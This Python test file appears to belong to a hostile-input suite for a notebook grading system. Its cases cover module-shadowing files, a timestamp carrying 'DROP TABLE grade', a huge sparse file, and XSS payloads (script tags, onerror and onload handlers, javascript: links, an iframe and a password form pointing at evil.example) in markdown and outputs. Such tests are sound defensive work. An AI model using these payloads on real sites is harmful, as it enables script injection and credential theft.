"""What stops a batch, or reaches its people: odd names, odd files beside the notebook, pages that act."""

from __future__ import annotations

from hostile_kit import FULL, case, code_case


@case(points=FULL)
def warns_on_stderr(notebook, folder):
    notebook.add("import sys, warnings\nwarnings.warn('old')\nprint('noise', file=sys.stderr)", "00-1-decide")
    notebook.cell("00-1-decide")["source"] += "\nwarnings = __import__('warnings')\nwarnings.warn('again')"


@case(points=FULL)
def library_of_its_own(notebook, folder):
    """Stray files that would replace libraries, were their folder searched first."""
    (folder / "labkit").mkdir(parents=True)
    for name in (
        "requests.py",
        "numpy.py",
        "json.py",
        "sitecustomize.py",
        "inside.py",
        "labkit/__init__.py",
        "httpx.py",
    ):
        (folder / name).write_text("raise SystemExit('shadowed')")
    notebook.add("import sqlite3, colorsys, requests as r" if False else "import sqlite3, colorsys, json, httpx")


@case(points=FULL)
def reads_its_own_file(notebook, folder):
    folder.mkdir(parents=True)
    (folder / "data.txt").write_text("forty-two")
    notebook.add("assert open('data.txt').read() == 'forty-two'\nopen('out.txt', 'w').write('mine')")


@case(points=FULL)
def broken_timestamp(notebook, folder):
    folder.mkdir(parents=True)
    (folder / "timestamp.txt").write_text("the day before yesterday; DROP TABLE grade")


@case(points=FULL, says="reads up to")
def files_without_end(notebook, folder):
    folder.mkdir(parents=True)
    with (folder / "big.bin").open("wb") as file:
        file.truncate(1 << 34)  # sparse: takes no disk


@case(points=FULL)
def scripts_in_text(notebook, folder):
    notebook.cell("00-6-paragraph")["source"] = (
        "An answer <script>alert('feedback')</script> <img src=x onerror=alert(1)> "
        "<iframe src='//evil.example'></iframe> [x](javascript:alert(2)) <svg onload=alert(3)>"
    )
    notebook.add("<script>alert('own cell')</script>\n\nOwn words", kind="markdown")


code_case(
    "scripts_in_outputs",
    """
from IPython.display import HTML, SVG, Javascript, display, publish_display_data
display(HTML("<script>alert('out')</script><img src=x onerror=alert(1)><b>bold</b>"), Javascript("alert(2)"))
publish_display_data({"image/svg+xml": "<svg onload=alert(3)>", "text/html": "<a href='javascript:alert(4)'>x</a>",
    "application/vnd.evil": {"a": 1}, "image/png": "x' onerror='alert(5)"})
HTML("<form action=//evil.example><input name=password></form><style>body{display:none}</style>")
""",
    points=FULL,
)
